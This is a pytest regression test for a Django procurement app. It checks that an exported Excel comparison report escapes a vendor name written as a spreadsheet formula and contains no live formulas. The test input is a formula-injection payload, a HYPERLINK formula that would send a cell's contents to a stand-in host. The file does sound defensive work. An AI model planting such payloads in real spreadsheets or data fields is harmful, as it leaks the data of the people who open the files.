"""Issue 15, finding 1 probe: the Excel comparison of a formula-named vendor has no formula."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from proposals.models import ProposalVersion
from reports import services
from vendors.models import VendorCompany

HOSTILE_NAME = '=HYPERLINK("http://x/?leak="&B2,"Open details")'


@pytest.mark.django_db
def test_probe_excel_comparison_of_a_formula_named_vendor_has_no_formula(
    scored, procurement_manager, django_capture_on_commit_callbacks
):
    proposal = scored.rfp.proposals.get(company__legal_name="Manila Contact Co")
    VendorCompany.objects.filter(pk=proposal.company_id).update(trading_name=HOSTILE_NAME)
    for version in ProposalVersion.objects.filter(proposal=proposal):
        content = {**version.content, "company": {"name": HOSTILE_NAME}}
        # As if it had submitted under that name (a saved version is immutable).
        ProposalVersion.objects.filter(pk=version.pk).update(content=content)
    with django_capture_on_commit_callbacks(execute=True):
        report = services.report_request(actor=procurement_manager, rfp=scored.rfp, kind="xlsx")
    report.refresh_from_db()
    report.job.refresh_from_db()
    report.job.result_file.open("rb")
    book = load_workbook(io.BytesIO(report.job.result_file.read()))
    report.job.result_file.close()
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert any(cell.value == "'" + HOSTILE_NAME for cell in cells)
    scores = next(ws for ws in book.worksheets if ws.title.startswith("Scores"))
    total = next(row for row in scores.iter_rows() if row[0].value == "Total (points of 100)")
    assert all(isinstance(cell.value, (int, float)) for cell in total[2:] if cell.value is not None)
